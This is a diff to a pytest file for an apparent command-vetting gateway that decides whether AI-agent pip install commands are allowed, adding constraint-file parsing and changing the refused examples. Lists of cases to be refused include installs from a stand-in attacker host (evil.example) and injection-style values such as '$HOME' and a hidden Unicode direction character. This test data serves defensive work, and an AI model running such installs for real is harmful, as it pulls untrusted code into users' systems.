@@ -9,16 +9,8 @@ from hypothesis import strategies as st
 from gateway.model.call import RawCall
 from gateway.model.plan import Endpoint
 from gateway.policy.confine import grants_of
-from gateway.policy.fetching import (
-    FETCHERS,
-    Fetch,
-    Listed,
-    OtherwiseError,
-    Project,
-    fetch_of,
-    listed,
-    needed_by,
-)
+from gateway.policy.fetching import FETCHERS, Fetch, OtherwiseError, Project, fetch_of
+from gateway.policy.fetching.pip import Listed, listed, needed_by
 from gateway.policy.hostrules import Only, Refused
 from gateway.policy.installs import INSTALLERS
 from gateway.sandbox.network import OFF, fetching_of
@@ -35,8 +27,9 @@ PROGRAM = ".venv/bin/pip"
 
 
 @pytest.fixture
-def judged(guard):
-    """The verdict on a text under a policy."""
+def judged(guard, monkeypatch):
+    """The verdict on a text under a policy, where all lists say what can be fetched."""
+    monkeypatch.setattr("gateway.judge.lists.why_not", lambda *_given: "")
 
     def judge(text: str, policy=PIP, **more):
         return guard({"user": policy}, **more).check(RawCall("Bash", {"command": text}), contains=lambda *_: "")
@@ -75,7 +68,7 @@ def test_an_install_is_contained_and_what_it_needs_is_known(judged, text, named,
     assert (verdict.decision.word, verdict.contained) == ("allow", True), verdict.reason
     fetch = fetch_of(verdict.analysis, ("pip",))
     assert fetch is not None
-    assert fetch == Fetch("pip", named, files, projects, targets=fetch.targets)
+    assert fetch == Fetch("pip", named, files=files, projects=projects, targets=fetch.targets)
     grants = grants_of(verdict, {"registries": ["pip"], "hosts": ["wiki.example"]})
     assert (grants.network, grants.contacts, grants.fetched) == ("off", (), "pip")
     assert fetching_of(grants, Profile(), (), ()).allow == (
@@ -96,7 +89,8 @@ def test_an_install_is_contained_and_what_it_needs_is_known(judged, text, named,
         ".venv/bin/pip install --extra-index-url https://evil.example/ x", ".venv/bin/pip install -f links x",
         ".venv/bin/pip install --no-binary :all: x", ".venv/bin/pip install --trusted-host x x",
         ".venv/bin/pip install --proxy http://evil.example x", ".venv/bin/pip install --cert x x",
-        ".venv/bin/pip install -c constraints.txt x", ".venv/bin/pip install -e git+https://evil.example/x",
+        ".venv/bin/pip install -c https://evil.example/c.txt x", ".venv/bin/pip install -c x",
+        ".venv/bin/pip install -e git+https://evil.example/x",
         ".venv/bin/pip install -e ../other", ".venv/bin/pip install -e ./../other", ".venv/bin/pip install -e",
         ".venv/bin/pip install --python-version 3.9 x", ".venv/bin/pip install --find-links=/srv x",
         ".venv/bin/pip install -r https://evil.example/r.txt", ".venv/bin/pip install -r",
@@ -147,6 +141,7 @@ def test_a_rule_that_leaves_one_of_the_hosts_out_leaves_no_step(judged) -> None:
          Listed(("six==1.16.0 --hash=sha256:ab12 --hash=sha256:CD",), ())),
         ("-r base.txt\n--requirement ../common.txt\nx[a, b]~=1.0\n",
          Listed(("x[a, b]~=1.0",), ("base.txt", "../common.txt"))),
+        ("-c limits.txt\nx\n--constraint=more.txt\n", Listed(("x",), (), ("limits.txt", "more.txt"))),
     ],
 )  # fmt: skip
 def test_files_of_requirements_are_read(text: str, expected: Listed) -> None:
@@ -159,7 +154,7 @@ def test_files_of_requirements_are_read(text: str, expected: Listed) -> None:
         "https://evil.example/x.whl", "git+ssh://x/y", "x @ https://evil.example/x", "./x", "-e .",
         "--index-url https://e/",
         "-i https://e/", "--extra-index-url=https://e/", "--find-links x", "--no-binary :all:",
-        "-c c.txt", "$HOME", "x y",
+        "-c https://e/c", "$HOME", "x y",
         "x==1 --config-settings=a=b", "x\u00e9", "x;\u202e", "--hash=sha256:ab", "x==1; os_name == `a`", "-r a b",
     ],
 )  # fmt: skip
